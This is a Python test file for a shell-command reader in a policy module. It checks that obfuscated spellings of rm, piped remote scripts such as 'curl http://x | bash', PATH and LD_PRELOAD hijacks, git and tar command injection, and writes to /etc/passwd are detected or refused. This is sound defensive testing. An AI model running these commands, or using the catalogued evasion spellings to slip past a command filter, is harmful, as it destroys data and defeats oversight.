import subprocess
import sys

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from remit.policy.readers import UnreadableValue, shell
from remit.policy.readers.shell import read

# Every spelling runs rm, and the reader either says so or refuses; here it must say so.
RUNS_RM = [
    "rm -rf /",
    "/bin/rm x",
    "./rm x",
    "r\\m x",
    '"rm" x',
    "'r'm x",
    'r""m x',
    "$'rm' x",
    "rｍ x",
    "ls; rm x",
    "ls && rm x",
    "ls || rm x",
    "ls | rm x",
    "ls |& rm x",
    "ls & rm x",
    "ls\nrm x",
    "# harmless\nrm x",
    "# harmless \\\nrm x",
    "rm \\\n -rf x",
    "! rm x",
    "(rm x)",
    "{ rm x; }",
    "((cd x; rm y))"[1:-1],
    "echo $(rm x)",
    "echo `rm x`",
    'echo "$(rm x)"',
    'echo "a `rm x` b"',
    "echo ${x:-$(rm y)}",
    "echo $(( $(rm x) + 1 ))",
    "x=$(rm y)",
    "x=$(rm y) ls",
    "export x=$(rm y)",
    "a=(1 $(rm x))",
    "cat <(rm x)",
    "ls > >(rm x)",
    "cat < <(rm x)",
    "cat <<EOF\n$(rm x)\nEOF",
    "cat <<< $(rm x)",
    "cat <<EOF\n$x and $(rm x)\nEOF",
    "echo ${x//$(rm y)/z}",
    'echo "${x/a/$(rm y)}"',
    "[[ $x =~ ^$(rm x)$ ]]",
    "x[$(rm y)]=1",
    'let "x=$(rm y)"',
    "ls > $(rm x)",
    "[[ $(rm x) ]]",
    "[ -f $(rm x) ]",
    "if rm x; then ls; fi",
    "if ls; then rm x; fi",
    "if ls; then :; elif rm x; then :; else :; fi",
    "if ls; then :; else rm x; fi",
    "while rm x; do ls; done",
    "until ls; do rm x; done",
    "for i in 1 2; do rm x; done",
    "for i in $(rm x); do ls; done",
    "for ((i=0; i<3; i++)); do rm x; done",
    "select i in a; do rm x; done",
    "case x in a) rm x;; esac",
    "case $(rm x) in a) ls;; esac",
    "f() { rm x; }",
    "function f { rm x; }; f",
    "trap 'rm x' EXIT",
    "eval rm x",
    "eval 'ls; rm x'",
    "sh -c 'rm x'",
    "bash -lc 'cd /tmp; rm x'",
    "bash -euo pipefail -c 'rm x'",
    "bash -c 'bash -c \"rm x\"'",
    "bash --norc -c 'rm x' name arg",
    "bash +x -c 'rm x'",
    "zsh -c -- 'rm x'",
    "bash <<EOF\nrm x\nEOF",
    "bash <<'EOF'\nrm $HOME\nEOF",
    "bash -s <<-EOF\n\trm x\n\tEOF",
    "bash <<< 'rm x'",
    "{ sh; } <<EOF\nrm x\nEOF",
    "sudo bash <<EOF\nrm x\nEOF",
    "cat <<EOF | rm x\na\nEOF",
    "cat <<EOF > f\na\nEOF\nrm x",
    "cat <<'EOF' > f && rm y\n$(x)\nEOF",
    "bash > out -c 'rm x'",
    "2> out rm x",
    "sudo rm x",
    "sudo -u ada -n rm x",
    "sudo --user=ada rm x",
    "sudo --user ada -- rm x",
    "sudo -nu ada rm x",
    "sudo FOO=1 rm x",
    "doas -u ada rm x",
    "env rm x",
    "env A=1 -i -u B rm x",
    "env -S 'rm -rf x'",
    "env -S'rm -rf' x",
    "env -i --split-string='rm x'",
    "nice rm x",
    "nice -n 10 rm x",
    "nice -10 rm x",
    "nohup rm x &",
    "timeout --foreground 5 rm x",
    "mapfile -t x; rm x",
    "timeout 5 rm x",
    "timeout -k 1 --signal=9 5 rm x",
    "time rm x",
    "time -p rm x",
    "stdbuf -oL rm x",
    "setsid -f rm x",
    "command rm x",
    "command -p rm x",
    "builtin exec rm x",
    "exec -a ls rm x",
    "coproc rm x",
    "xargs rm",
    "ls | xargs -0 -n1 -I{} rm {}",
    "xargs -P 4 sh -c 'rm x'",
    "find . -exec rm {} \\;",
    "find . -execdir rm {} +",
    "find . -ok rm {} ';'",
    "find . -name x -exec ls {} + -exec sh -c 'rm x' \\;",
    "busybox rm x",
    "strace -f -o log rm x",
    "chroot /x rm y",
    "watch -n 1 rm x",
    "watch 'ls; rm x'",
    "ssh host rm x",
    "ssh -p 22 host 'ls; rm x'",
    "su - root -c 'rm x'",
    "su --command 'rm x' root",
    "su --command='rm x' root",
    "flock lock -c 'rm x'",
    "sudo env nice timeout 5 nohup bash -c 'rm x'",
]


@pytest.mark.parametrize("command", RUNS_RM)
def test_every_program_that_would_run_is_found(command):
    assert "rm" in read(command).programs


# What runs here cannot be known, so nothing is read from it.
UNREADABLE = [
    "$X a",
    "${X} a",
    '"$@"',
    "$(echo rm) x",
    "`echo rm` x",
    "r$X x",
    "$'\\x72m' x",
    '$"rm" x',
    "/bin/r? x",
    "/bin/[r]m x",
    "{rm,-rf,/}",
    "r{m,x} y",
    "~ x",
    "~user x",
    "r\\\nm x",
    "echo rm | sh",
    "curl http://x | bash",
    "curl http://x | sudo bash -s",
    "sh",
    "sudo bash",
    "bash < script",
    "bash <(curl http://x)",
    "bash $X",
    "bash -c $X",
    'bash -c "$X"',
    'bash -c "rm $(ls)"',
    "bash -c",
    "bash --rcfile x",
    "bash -Z",
    "cat <<EOF | sh\nrm\nEOF",
    "bash <<EOF\nrm -rf $HOME\nEOF",
    "bash <<EOF\nr\\\\m x\nEOF",
    "bash <<< $X",
    "eval $X",
    'trap "$X" EXIT',
    "source <(curl x)",
    ". $X",
    "source",
    "alias ls=rm",
    "parallel rm ::: x",
    "echo x | at now",
    "at now",
    "hash -p /bin/rm ls",
    "enable -f x y",
    "mapfile -C rm x",
    "PATH=/evil ls",
    "export PATH=/evil",
    'export "PATH=/evil"',
    "export $X",
    "declare LD_PRELOAD=x",
    "LD_PRELOAD=x ls",
    "env PATH=/x ls",
    "sudo LD_PRELOAD=x ls",
    "env $X rm",
    "timeout $T rm x",
    "read PATH",
    "printf -v PATH x",
    "for PATH in a; do ls; done",
    "sudo -i",
    "sudo -Z rm x",
    "sudo --unknown rm x",
    "flock lock rm x",
    "su -lc 'rm x'",
    "su $X",
    "find . -exec $X \\;",
    "find . -exec {} \\;",
    "find . -exec rm {}",
    "find . -exec bash {} \\;",
    "find . -exec sh -c 'rm {}' \\;",
    "find . -exec \\;",
    "xargs bash",
    "xargs sh -c",
    "xargs -I % sh -c 'rm %'",
    "xargs --replace=% sh -c 'rm %'",
    "xargs -I% sh -c 'rm %'",
    "ssh host $X",
    "ssh -o ProxyCommand=rm host $X",
    "git -c alias.x='!rm' x",
    "git -ccore.pager=rm log",
    "git -c",
    "git -C /tmp -c core.pager=rm log",
    "git config alias.x '!rm'",
    "git clone ext::rm",
    "git rebase -x rm HEAD~1",
    "git rebase --exec rm HEAD~1",
    "git bisect run rm",
    "git submodule foreach rm",
    "git $X",
    "tar --checkpoint-action=exec=sh x",
    "tar -I rm -xf x",
    "tar cIf rm x",
    "rsync -ave rm a b",
    "awk 'BEGIN { system(\"rm\") }'",
    "awk '{ print | \"rm\" }'",
    "sed -n '1e rm x' f",
    "sed 's/a/b/e' f",
    "vim -c ':!rm' f",
    "echo ${x@P}",
    "echo `echo \\`rm x\\``",
    'cat <<E"O"F\nrm x\nEOF',
    "cat <<EOF\na\nEOF \nrm x\nEOF",
    "echo @(a|b)",
    "eval " * 10 + "rm x",
    "$\\",
    "- \\ \n ",
    "$(2>)1",
    "$ let x",
    "cat <<EOF > f extra\nx\nEOF",
    "cat <<E-F\nx\nE-F",
    "cat <<EOF\n`rm x`\nEOF",
    "cat <<EOF\na $x `rm x` b\nEOF",
    "cat <<A <<B\nx\nA\ny\nB",
    "cat <<EOF\nunfinished",
    "if",
    "ls |",
    "ls )",
    "echo 'x",
    "(ls) > f extra",
    "rm\x00 x",
    "rm\rx",
    "r\u200bm x",
    "rm\u00a0x",
    "rm\u3000x",
    "rm \ud800",
    "> f",
    "nice " * 20 + "rm x",
    "ls;" * 600,
    "(" * 100 + "ls" + ")" * 100,
    " && ".join(["ls"] * 100),
]


@pytest.mark.parametrize("command", UNREADABLE)
def test_what_cannot_be_known_is_unreadable(command):
    if command == "> f":
        # A redirection alone runs nothing, but empties the file.
        assert read(command).writes == ("f",)
        return
    with pytest.raises(UnreadableValue, match=r"shell\(\)"):
        read(command)


def test_code_within_code_has_an_end():
    command = "rm x"
    for _ in range(10):
        command = "sh -c '" + command.replace("'", "'\\''") + "'"
    with pytest.raises(UnreadableValue):
        read(command)


@pytest.mark.parametrize("value", [None, 3, ["rm"], {"cmd": "rm"}, b"rm", "ls " * 30_000])
def test_only_text_of_bearable_length_is_read(value):
    with pytest.raises(UnreadableValue):
        read(value)


ORDINARY = {
    "ls -la": "ls",
    "ls *.py": "ls",
    "cd /srv/app && git status": "cd git",
    "git diff HEAD~1 -- src/": "git",
    "git log --oneline -n 5": "git",
    "git commit -m 'fix: the thing'": "git",
    'git commit -am "a message with $1 in it"': "git",
    "git push -u origin main": "git",
    "git -C /srv/app pull --rebase": "git",
    "git -c user.name=ada commit": "git",
    "git checkout -b feature/x": "git",
    "git add -A && git commit -m 'x' && git push": "git",
    "git stash; git pull; git stash pop": "git",
    "python -m pytest -x -q tests/": "python",
    "python3 script.py --verbose > out.log 2>&1": "python3",
    "python -c 'print(1)'": "python",
    "pip install -r requirements.txt": "pip",
    "npm ci && npm run build": "npm",
    "npx tsc --noEmit": "npx",
    "node index.js": "node",
    "make -j4 test": "make",
    "cargo build --release": "cargo",
    "go test ./...": "go",
    "docker ps -a": "docker",
    "docker compose up -d": "docker",
    "docker run --rm -it -v $PWD:/app node:20 bash": "docker",
    "kubectl get pods -n prod": "kubectl",
    "terraform plan -out=plan.bin": "terraform",
    "curl -sSf https://example.com/health": "curl",
    "curl -X POST -H 'Content-Type: application/json' -d '{\"a\": 1}' https://example.com": "curl",
    "wget -q https://example.com/a.tgz": "wget",
    "tar -xzf a.tgz -C /tmp": "tar",
    "tar xzf a.tgz": "tar",
    "unzip -o a.zip": "unzip",
    "grep -rn 'def main' src/ --include='*.py'": "grep",
    "rg -n TODO src | head -20": "rg head",
    "find . -name '*.pyc' -delete": "find",
    "find . -type f -name '*.md' | wc -l": "find wc",
    "find src -name '*.py' -print0 | xargs -0 wc -l": "find xargs wc",
    "cat file.txt | sort | uniq -c | sort -rn | head": "cat sort uniq head",
    "sed -i 's/foo/bar/g' file.txt": "sed",
    "sed -n '10,20p' file.txt": "sed",
    "sed -e 's/a/b/' -e '/^#/d' f": "sed",
    "awk '{print $1, $2}' data.csv": "awk",
    "awk -F, '$3 > 10 && $4 == \"x\" {n += $5} END {print n}' f": "awk",
    "head -n 5 a.txt && tail -n 5 a.txt": "head tail",
    "cp -r src dst": "cp",
    "mv a.txt b.txt": "mv",
    "rm -f build/*.o": "rm",
    "mkdir -p a/b/c && touch a/b/c/d": "mkdir touch",
    "chmod +x run.sh && ./run.sh": "chmod run.sh",
    "ln -sf /a /b": "ln",
    "echo hello > out.txt": "echo",
    'echo "it\'s $USER" >> log': "echo",
    "printf '%s\\n' a b c": "printf",
    "export FOO=bar; echo $FOO": "echo",
    "FOO=bar ./run": "run",
    'for f in *.txt; do echo "$f"; done': "echo",
    'while read -r line; do echo "$line"; done < in.txt': "read echo",
    "if [ -f x ]; then cat x; else echo none; fi": "cat echo",
    "[[ -d .git ]] && echo yes || echo no": "echo",
    "test -f x || touch x": "test touch",
    'case "$1" in start) echo a;; *) echo b;; esac': "echo",
    "ps aux | grep python": "ps grep",
    "kill -9 1234": "kill",
    "df -h; du -sh .": "df du",
    "which python3": "which",
    "command -v jq": "command",
    "jq '.items[] | .name' data.json": "jq",
    "diff -u a b": "diff",
    "diff <(sort a) <(sort b)": "sort diff",
    "date +%Y-%m-%d": "date",
    "sleep 5 && date": "sleep date",
    "timeout 60 python slow.py": "timeout python",
    "nohup python server.py > log 2>&1 &": "nohup python",
    "time make": "time make",
    "sudo apt-get install -y jq": "sudo apt-get",
    "sudo -u postgres psql -c 'select 1'": "sudo psql",
    "env | sort": "env sort",
    "bash script.sh --flag": "bash",
    "bash -n script.sh": "bash",
    "sh -x ./run.sh": "sh",
    "bash --version": "bash",
    "source .venv/bin/activate && pip list": "source pip",
    "set -euo pipefail": "set",
    "cat > f.py <<'EOF'\nimport os\nprint(os.environ['HOME'])\nEOF": "cat",
    "cat <<EOF\nHello $USER\nEOF": "cat",
    "cat > README.md <<'EOF'\nUse `make` and $(x)\nEOF": "cat",
    "cat <<EOF\ncosts \\$5 and \\`this\\`\nEOF": "cat",
    "echo 'a `b` $(c)' \"\\`d\\` \\$(e)\"": "echo",
    "echo ${x:-y} ${#a[@]} ${x%.*}": "echo",
    "psql -h db -U ada -d shop -c 'select count(*) from orders'": "psql",
    "mysql -e 'show tables'": "mysql",
    "ssh ada@host uptime": "ssh uptime",
    "scp a.txt host:/tmp/": "scp",
    "rsync -av src/ dst/": "rsync",
    "tee out.log < in.log": "tee",
    "xargs -n 1 echo < list": "xargs echo",
    "cut -d, -f1 a.csv | tr a-z A-Z": "cut tr",
    "x=$((1 + 2)); echo $x": "echo",
    "count=$(ls | wc -l)": "ls wc",
    "arr=(a b c); echo ${#arr[@]}": "echo",
    "ls {a,b}.txt": "ls",
    "echo {1..5}": "echo",
    "f() { echo hi; }; f": "echo f",
    "local_var=1; unset local_var": "",
    "true && false || :": "true false :",
    "trap - EXIT": "trap",
    "cd - > /dev/null": "cd",
    "echo 日本語 'ü'": "echo",
    "uname -a": "uname",
    "ruff check . --fix && mypy src": "ruff mypy",
    "~/bin/tool --help": "tool",
    "openssl x509 -in cert.pem -noout -text": "openssl",
    "": "",
    "# nothing": "",
}


@pytest.mark.parametrize(("command", "programs"), ORDINARY.items())
def test_ordinary_commands_are_read(command, programs):
    assert " ".join(read(command).programs) == programs


def test_arguments_are_the_words_without_quotes():
    reading = read("git commit -m 'a b' \"c d\" e\\ f")
    assert reading.arguments == ("commit", "-m", "a b", "c d", "e f")
    assert read('echo "a\\"b\\$c"').arguments == ('a"b$c',)
    assert read('echo "a\\\n b"').arguments == ("a b",)
    assert read("echo a{b}c {} $'x'").arguments == ("a{b}c", "{}", "x")


@pytest.mark.parametrize(
    "command", ["echo $", "echo $X", "ls *.py", "cat ~/x", "echo $'a\\nb'", "cp a.{txt,bak}"]
)
def test_arguments_that_the_shell_expands_are_unreadable(command):
    reading = read(command)
    with pytest.raises(UnreadableValue):
        _ = reading.arguments


def test_probe_p20_flag_order_does_not_matter():
    for command in ["rm -rf x", "rm -fr x", "rm -r -f x", "rm x -f -r", "rm -f -- x; rm -r y"]:
        assert set(read(command).flags("rm")) == {"-r", "-f"}
    assert read("rm --recursive --color=never -- -x").flags("rm") == ("--recursive", "--color")
    assert read("find . -name x -delete").flags("find") == ("-name", "-delete")
    assert read("ls -l").flags("rm") == ()
    for command in ["rm $X y", "rm -r{f,} y", "xargs rm"]:
        with pytest.raises(UnreadableValue):
            read(command).flags("rm")


@pytest.mark.parametrize(
    "command",
    ["rm -fr /", "{rm,-rf,/}", "$(echo rm) -rf /", "env rm -rf /", "sh -c 'rm -rf /'",
     "sh <<EOF\nrm -rf /\nEOF", "find / -exec rm -rf {} +", "echo / | xargs rm -rf"],
)  # fmt: skip
def test_probe_p20_shell_spellings(command):
    try:
        programs = read(command).programs
    except UnreadableValue:
        return
    assert "rm" in programs


@pytest.mark.parametrize(
    ("command", "reads", "writes"),
    [
        ("echo hi > a", (), ("a",)),
        ("echo hi >> a 2> b", (), ("a", "b")),
        ("echo hi >| a", (), ("a",)),
        ("echo hi &> a", (), ("a",)),
        ("cmd 2>&1 >&2 <&-", (), ()),
        ("cmd >& a", (), ("a",)),
        ("cmd < a > b", ("a",), ("b",)),
        ("> a cmd", (), ("a",)),
        ("{ cmd; } > a", (), ("a",)),
        ("cat a b", ("a", "b"), ()),
        ("cat -- -a", ("-a",), ()),
        ("grep x a b", ("a", "b"), ()),
        ("grep -e x a", ("x", "a"), ()),
        ("rm -rf a b", (), ("a", "b")),
        ("tee a", (), ("a",)),
        ("cp a b c", ("a", "b"), ("c",)),
        ("cp -t d a b", ("a", "b"), ("d",)),
        ("mv a b", (), ("a", "b")),
        ("dd if=a of=b bs=1", ("a",), ("b",)),
        ("sed -i s/a/b/ f", ("f",), ("f",)),
        ("sed s/a/b/ f", ("f",), ()),
        ("find a b -name x", ("a", "b"), ()),
        ("find a -delete", (), ("a",)),
        ("find", (), ()),
        ("curl -o a https://x", (), ("a",)),
        ("curl -oa https://x", (), ("a",)),
        ("curl --output=a https://x", (), ("a",)),
        ("source env.sh", ("env.sh",), ()),
        ("sudo sh -c 'echo x > /etc/passwd'", (), ("/etc/passwd",)),
        ("cat <<EOF > a\nx\nEOF", (), ("a",)),
    ],
)
def test_paths_read_and_written(command, reads, writes):
    reading = read(command)
    assert (reading.reads, reading.writes) == (reads, writes)


@pytest.mark.parametrize(
    "command", ["echo x > $F", "rm $F", "rm *", "cp a $F", "dd of=$F", "tee ~/x"]
)
def test_writes_that_the_shell_expands_are_unreadable(command):
    with pytest.raises(UnreadableValue):
        _ = read(command).writes


@pytest.mark.parametrize("command", ["cat $F", "cat < $F", "find $D -name x", "cat <(ls)"])
def test_reads_that_the_shell_expands_are_unreadable(command):
    with pytest.raises(UnreadableValue):
        _ = read(command).reads


WRAPPED = st.recursive(
    st.just("rm victim"),
    lambda inner: st.one_of(
        inner.map(lambda c: f"ls && {c}"),
        inner.map(lambda c: f"( {c} )"),
        inner.map(lambda c: f"{{ {c}; }}"),
        inner.map(lambda c: f"if true; then {c}; fi"),
        inner.map(lambda c: f'echo "$( {c} )"'),
        inner.map(lambda c: f"for i in 1 2; do {c}; done"),
        inner.map(lambda c: f"cat <( {c} )"),
        inner.map(lambda c: "sh -c '" + c.replace("'", "'\\''") + "'"),
        inner.map(lambda c: f"x=$( {c} ) ls"),
        inner.map(lambda c: f"f() {{ {c}; }}; f"),
        inner.map(lambda c: f"echo a | {{ {c}; }}"),
    ),
    max_leaves=4,
)


@settings(max_examples=200, deadline=None)
@given(WRAPPED)
def test_a_command_wrapped_at_random_is_always_found(command):
    assert "rm" in read(command).programs


@settings(max_examples=500, deadline=2000)
@given(st.text() | st.text("rm sudo$(){}[]<>|&;'\"`\\\n-=!#*?~EOF0", max_size=60))
def test_any_text_is_read_or_unreadable(command):
    try:
        reading = read(command)
    except UnreadableValue:
        return
    assert isinstance(reading, shell.ShellReading)


@pytest.mark.parametrize(
    "command",
    [
        "{\U000c7889",
        "\U000706c3E䖁I\U000ab6e7{\U000c7889\U00054d30タ.",
        "a=-\U0007b594 {\U0010dcb3",
    ],
)
def test_text_that_crashes_the_parser_as_it_comes_does_not_reach_it(command):
    # In a process of its own: what must not happen is that the process dies.
    program = (
        "import sys\nfrom remit.policy.readers.shell import read, UnreadableValue\n"
        "try: read(sys.argv[1])\nexcept UnreadableValue: pass\nprint('alive')"
    )
    done = subprocess.run([sys.executable, "-c", program, command], capture_output=True, text=True)
    assert done.stdout == "alive\n"


def test_words_beyond_ascii_are_read_as_they_are():
    reading = read("git commit -m 'Füße 足' && rm größe.txt <<< ß")
    assert reading.programs == ("git", "rm")
    assert "Füße 足" in reading.arguments
    assert "größe.txt" in reading.writes


def test_a_name_beyond_ascii_makes_no_assignment():
    assert read("é=1 rm x").programs == ("é=1",)


def test_a_here_document_ends_at_its_delimiter_beyond_ascii():
    assert read("cat <<'ENDÉ'\nrm x\nENDÉ").programs == ("cat",)
